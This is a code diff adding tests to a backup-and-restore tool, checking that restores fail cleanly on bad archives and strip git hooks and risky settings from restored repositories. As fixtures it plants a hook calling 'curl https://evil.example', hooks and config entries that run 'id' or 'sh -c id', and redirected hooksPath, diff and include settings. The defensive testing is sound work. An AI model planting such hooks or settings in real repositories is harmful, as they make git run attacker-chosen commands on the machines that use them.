@@ -1,8 +1,10 @@
+import { execFileSync } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import SqliteDatabase from 'better-sqlite3';
+import * as tar from 'tar';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createWorld, startTestServer, type TestServer, type World } from '../../server/test/harness.ts';
 import { backup, restore } from '../src/backup.ts';
@@ -50,7 +52,8 @@ describe('backup and restore (sqlite)', () => {
       }
     };
     const writers = Array.from({ length: 3 }, writer);
-    await new Promise((resolve) => setTimeout(resolve, 400));
+    // Enough acknowledged notes to make the check below meaningful, however busy the machine is.
+    while (acknowledgedBefore.size <= 10) await new Promise((resolve) => setTimeout(resolve, 20));
     // The flag flips before the copy starts: anything acknowledged by now must be in the backup.
     backupStarted = true;
     const file = path.join(scratch, 'pairwise.tar.gz');
@@ -101,5 +104,126 @@ describe('backup and restore (postgres)', () => {
     );
     expect(fs.existsSync(path.join(restoredDir, 'pairwise.sqlite'))).toBe(false);
     fs.rmSync(scratch, { recursive: true, force: true });
+  });
+});
+
+describe('restore is all or nothing', () => {
+  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'pairwise-restore-'));
+  const databaseUrl = 'postgres://unused@127.0.0.1:1/pairwise';
+  afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));
+
+  /** A data folder with a bare repository carrying a planted hook, backed up as files only. */
+  const backupWithRepository = async (name: string) => {
+    const dataDir = path.join(scratch, `${name}-data`);
+    const gitDir = path.join(dataDir, 'repositories', 'bowling-kata.git');
+    fs.mkdirSync(path.join(gitDir, 'objects'), { recursive: true });
+    fs.mkdirSync(path.join(gitDir, 'hooks'));
+    fs.writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
+    fs.writeFileSync(
+      path.join(gitDir, 'config'),
+      [
+        '[core]',
+        '\tbare = true',
+        '\thooksPath = /tmp/planted-hooks',
+        '[receive]',
+        '\tdenyDeletes = true',
+        '[diff]',
+        '\texternal = /tmp/planted-diff',
+        '[diff "evil"]',
+        '\ttextconv = id',
+        '[tar "tar.xz"]',
+        '\tcommand = sh -c id',
+        '[include]',
+        '\tpath = /tmp/planted.config',
+        '',
+      ].join('\n'),
+    );
+    fs.writeFileSync(path.join(gitDir, 'hooks', 'post-receive'), '#!/bin/sh\ncurl https://evil.example\n', {
+      mode: 0o755,
+    });
+    const taskGitDir = path.join(dataDir, 'tasks', 'task-1.git');
+    fs.mkdirSync(path.join(taskGitDir, 'objects'), { recursive: true });
+    fs.mkdirSync(path.join(taskGitDir, 'hooks'));
+    fs.writeFileSync(path.join(taskGitDir, 'HEAD'), 'ref: refs/heads/main\n');
+    fs.writeFileSync(path.join(taskGitDir, 'hooks', 'pre-receive'), '#!/bin/sh\nid\n', { mode: 0o755 });
+    const file = path.join(scratch, `${name}.tar.gz`);
+    await backup(file, { dataDir, databaseUrl });
+    return file;
+  };
+
+  /** Nothing of a failed restore may remain: neither the target nor a folder beside it. */
+  const expectNothingLeft = (target: string) => {
+    expect(fs.existsSync(target)).toBe(false);
+    expect(fs.readdirSync(path.dirname(target)).filter((name) => name.includes('restoring'))).toEqual([]);
+  };
+
+  it('writes backups readable by their owner only', async () => {
+    const previous = process.umask(0o022);
+    try {
+      const file = await backupWithRepository('mode');
+      expect(fs.statSync(file).mode & 0o777).toBe(0o600);
+    } finally {
+      process.umask(previous);
+    }
+  });
+
+  it('refuses a truncated archive in plain words, leaves nothing behind, and a retry then succeeds', async () => {
+    const good = await backupWithRepository('truncated');
+    const truncated = path.join(scratch, 'truncated-half.tar.gz');
+    const bytes = fs.readFileSync(good);
+    fs.writeFileSync(truncated, bytes.subarray(0, Math.floor(bytes.length / 2)));
+    const target = path.join(scratch, 'restore-target-1', 'data');
+    await expect(restore(truncated, { dataDir: target, databaseUrl })).rejects.toThrow(
+      /^Could not unpack .*damaged, incomplete, or not a backup made by "pairwise backup"\. Nothing was written to/,
+    );
+    expectNothingLeft(target);
+    const restored = await restore(good, { dataDir: target, databaseUrl });
+    expect(restored.database).toBe('postgres');
+    expect(fs.existsSync(path.join(target, 'repositories', 'bowling-kata.git', 'HEAD'))).toBe(true);
+  });
+
+  it('refuses an archive that is no Pairwise backup, and a damaged database, leaving nothing behind', async () => {
+    const foreign = path.join(scratch, 'foreign');
+    fs.mkdirSync(foreign);
+    fs.writeFileSync(path.join(foreign, 'notes.txt'), 'hello\n');
+    const foreignFile = path.join(scratch, 'foreign.tar.gz');
+    await tar.create({ gzip: true, file: foreignFile, cwd: foreign }, ['notes.txt']);
+    const target = path.join(scratch, 'restore-target-2', 'data');
+    await expect(restore(foreignFile, { dataDir: target, databaseUrl: null })).rejects.toThrow(
+      /is not a Pairwise backup: it has no readable manifest\. Nothing was written/,
+    );
+    expectNothingLeft(target);
+
+    const damaged = path.join(scratch, 'damaged');
+    fs.mkdirSync(path.join(damaged, '.pairwise-backup'), { recursive: true });
+    fs.writeFileSync(
+      path.join(damaged, '.pairwise-backup', 'manifest.json'),
+      JSON.stringify({ format: 1, createdAt: new Date().toISOString(), database: 'sqlite' }),
+    );
+    fs.writeFileSync(path.join(damaged, '.pairwise-backup', 'pairwise.sqlite'), Buffer.alloc(8192, 7));
+    const damagedFile = path.join(scratch, 'damaged.tar.gz');
+    await tar.create({ gzip: true, file: damagedFile, cwd: damaged }, ['.pairwise-backup']);
+    await expect(restore(damagedFile, { dataDir: target, databaseUrl: null })).rejects.toThrow(
+      /^The database in .* is damaged \(SQLite's integrity check says: .*\)\. Nothing was written/,
+    );
+    expectNothingLeft(target);
+  });
+
+  it("empties every restored repository's hooks and program settings, so a planted one never runs", async () => {
+    const file = await backupWithRepository('hooks');
+    const target = path.join(scratch, 'restore-target-3');
+    fs.mkdirSync(target);
+    await restore(file, { dataDir: target, databaseUrl });
+    expect(fs.readdirSync(path.join(target, 'repositories', 'bowling-kata.git', 'hooks'))).toEqual([]);
+    expect(fs.readdirSync(path.join(target, 'tasks', 'task-1.git', 'hooks'))).toEqual([]);
+    const settings = execFileSync(
+      'git',
+      ['config', '--file', path.join(target, 'repositories', 'bowling-kata.git', 'config'), '--list'],
+      { encoding: 'utf8' },
+    );
+    expect(settings.trim().split('\n')).toEqual(['core.bare=true', 'receive.denydeletes=true']);
+    expect(fs.readFileSync(path.join(target, 'repositories', 'bowling-kata.git', 'HEAD'), 'utf8')).toContain(
+      'main',
+    );
   });
 });
